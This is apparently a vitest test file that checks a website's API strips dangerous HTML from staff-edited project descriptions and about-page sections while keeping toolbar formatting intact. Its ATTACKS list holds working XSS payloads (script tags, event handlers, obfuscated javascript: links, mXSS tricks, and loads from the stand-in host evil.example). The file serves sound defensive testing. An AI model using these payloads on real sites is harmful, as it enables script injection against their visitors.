import { describe, expect, test } from 'vitest';
import { ok, serve, unique } from './clients.ts';

const site = serve();

/** Every place where staff save HTML: what goes in, and what a visitor then reads. */
const PLACES: [string, (html: string) => Promise<string>][] = [
  [
    'a project saved anew',
    async html => {
      const row = { title: unique(), description: html };
      const { id } = ok(await site.staff.from('projects').insert(row).select('id').single());
      return ok(await site.visitor.from('projects').select('description').eq('id', id).single()).description;
    },
  ],
  [
    'a project changed',
    async html => {
      const { id } = ok(await site.staff.from('projects').insert({ title: unique() }).select('id').single());
      const saved = await site.staff.from('projects').update({ description: html }).eq('id', id);
      if (saved.error) throw saved.error;
      return ok(await site.visitor.from('projects').select('description').eq('id', id).single()).description;
    },
  ],
  [
    'a project upserted in a batch',
    async html => {
      const { id, title } = ok(
        await site.staff.from('projects').insert({ title: unique() }).select().single(),
      );
      const saved = await site.staff.from('projects').upsert([{ id, title, description: html }]);
      if (saved.error) throw saved.error;
      return ok(await site.visitor.from('projects').select('description').eq('id', id).single()).description;
    },
  ],
  [
    'a section of the about page',
    async html => {
      const content = { vision_text: html };
      const saved = await site.staff.from('website_content').update({ content }).eq('page_key', 'about');
      if (saved.error) throw saved.error;
      const row = await site.visitor
        .from('website_content')
        .select('content')
        .eq('page_key', 'about')
        .single();
      return ok(row).content.vision_text;
    },
  ],
  [
    'a section with a name of its own',
    async html => {
      const content = { something_new: html };
      const saved = await site.staff.from('website_content').upsert({ page_key: 'about', content });
      if (saved.error) throw saved.error;
      const row = await site.visitor
        .from('website_content')
        .select('content')
        .eq('page_key', 'about')
        .single();
      return ok(row).content.something_new;
    },
  ],
];

// Each would run, or reach out, in some browser if it were shown as it stands.
const ATTACKS = [
  '<p>a<script>alert(1)</script>b</p>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(2)>a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="/x" onfocus=alert(1) autofocus>a</a>',
  '<svg onload=alert(1)><script>alert(2)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  '<style>@import "//evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed">a</p>',
  '<link rel=stylesheet href=//evil.example/x.css><base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>a</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<input onfocus=alert(1) autofocus><select onfocus=alert(1) autofocus>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>',
  '<p title="`><img src=x onerror=alert(1)>`">a</p>',
  '<a href="https://a.example" target="_blank" rel="opener" style="x" class="y" id="z">a</a>',
];
const ELEMENTS = ['p', 'br', 'h1', 'h2', 'h3', 'strong', 'b', 'em', 'i', 'u', 's', 'ol', 'ul', 'li', 'a'];

/** What stands in the HTML besides the toolbar's own elements, attributes and kinds of link. */
function strange(html: string): string[] {
  const found: string[] = [];
  const rest = html.replaceAll(
    /<(\/?)([a-z0-9]+)((?:\s+[\w:-]+="[^"]*")*)\s*>/gi,
    (tag, _, name, attributes) => {
      if (!ELEMENTS.includes(name)) found.push(tag);
      for (const [, attribute, value] of attributes.matchAll(/([\w:-]+)="([^"]*)"/g)) {
        const fine =
          (attribute === 'href' && /^(https?:|mailto:|tel:|[/#?.]|$)/i.test(value)) ||
          (attribute === 'target' && value === '_blank') ||
          (attribute === 'rel' && /^(noopener|noreferrer|nofollow| )+$/.test(value));
        if (name !== 'a' || !fine) found.push(`${name} ${attribute}="${value}"`);
      }
      return '';
    },
  );
  // What is left must be text: a bracket would be the beginning of something we did not understand.
  return rest.includes('<') ? [...found, rest] : found;
}

describe.each(PLACES)('[API-7] %s', (_, save) => {
  test.each(ATTACKS)('%s', async attack => {
    const shown = await save(attack);
    expect(strange(shown)).toEqual([]);
    expect(await save(shown)).toBe(shown);
  });
});

describe('[API-7] what the toolbar makes survives unchanged', () => {
  test.each([
    '<h1>One</h1><h2>Two</h2><h3>Three</h3><p>Normal</p>',
    '<p><strong>bold</strong> <em>italic</em> <u>underline</u> <s>strike</s></p>',
    '<p><strong><em><u><s>all of them</s></u></em></strong></p>',
    '<ol><li>first</li><li>second</li></ol><ul><li>point</li></ul>',
    '<ul><li>outer<ul><li>inner</li></ul></li></ul>',
    '<p><a href="https://example.org/a?b=1&amp;c=2">link</a> <a href="/donate">give</a></p>',
    '<p><a href="https://example.org" rel="noopener noreferrer" target="_blank">new tab</a></p>',
    '<p><a href="mailto:a@example.org">mail</a><br><a href="tel:+92410000000">call</a></p>',
    '<p>5 &lt; 6 &amp; 7 &gt; 2, "quoted", it\'s</p>',
    '<p>اُمید — صحت، تعلیم</p>',
    'Project description here.',
    '',
  ])('%s', async html => {
    for (const [place, save] of PLACES) expect(await save(html), place).toBe(html);
  });

  test('plain text is not HTML: it is kept as it was typed', async () => {
    const quote = '5 < 6 & <b>not bold</b>';
    const row = ok(
      await site.staff.from('testimonials').insert({ name: '<i>N</i>', quote }).select().single(),
    );
    expect(row).toMatchObject({ quote, name: '<i>N</i>' });
  });
});
